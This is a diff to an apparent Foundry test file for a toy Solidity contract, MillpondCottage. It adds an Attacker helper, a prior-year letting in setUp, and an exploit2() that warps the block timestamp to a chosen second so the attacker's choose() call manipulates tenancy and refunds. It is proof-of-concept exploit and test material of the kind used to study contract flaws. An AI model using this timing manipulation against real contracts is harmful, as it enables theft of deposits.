@@ -46,6 +46,10 @@ contract Attacker is Applicant {
         cottage.choose();
         require(cottage.tenant() == address(this), "not in this second");
     }
+
+    function close() external {
+        cottage.choose();
+    }
 }
 
 contract Proof {
@@ -58,13 +62,22 @@ contract Proof {
     function() external payable {}
 
     function setUp() public {
-        vm.warp(1700000000);
+        vm.warp(1700000000 - 400 days);
         cottage = new MillpondCottage();
         cottage.open(2 ether, 6 ether);
         for (uint256 i = 0; i < 3; i++) {
             people[i] = new Applicant(cottage);
-            vm.deal(address(people[i]), 10 ether);
+            vm.deal(address(people[i]), i == 0 ? 13 ether : 10 ether);
         }
+
+        // The letting of the year before: the last applicant leaves its deposit where it is.
+        people[0].offer(3 ether);
+        people[2].offer(2 ether);
+        vm.warp(1700000000 - 378 days);
+        cottage.choose();
+
+        vm.warp(1700000000);
+        cottage.open(2 ether, 6 ether);
         clockwatcher = new Attacker(cottage);
         vm.deal(address(clockwatcher), 6 ether);
         for (uint256 i = 0; i < 3; i++) people[i].offer(6 ether);
@@ -72,6 +85,8 @@ contract Proof {
 
     function test_Regular() public {
         require(cottage.applicantCount() == 3, "three applicants");
+        require(cottage.refundOf(address(people[2])) == 2 ether, "due since last year");
+        people[2].takeBack();
         (bool ok, ) = address(people[0]).call(abi.encodeWithSelector(people[0].offer.selector, 1 ether));
         require(!ok, "above the ceiling");
         (ok, ) = address(cottage).call(abi.encodeWithSelector(cottage.choose.selector));
@@ -133,6 +148,23 @@ contract Proof {
     function test_Exploit() public {
         exploit();
         require(cottage.tenant() == address(clockwatcher), "somebody else");
+    }
+
+    /// What the last applicant can still get.
+    function dueToTheLast() public view returns (uint256) {
+        return cottage.refundOf(address(people[2])) + cottage.offerOf(address(people[2]));
+    }
+
+    // In a second in which the first applicant becomes the tenant.
+    function exploit2() public {
+        uint256 time = cottage.offersUntil();
+        vm.warp(time + (3 - (time % 3)));
+        clockwatcher.close();
+    }
+
+    function test_Exploit2() public {
+        exploit2();
+        require(dueToTheLast() == 6 ether, "the older deposit is still due");
     }
 
     function target() public view returns (address) {
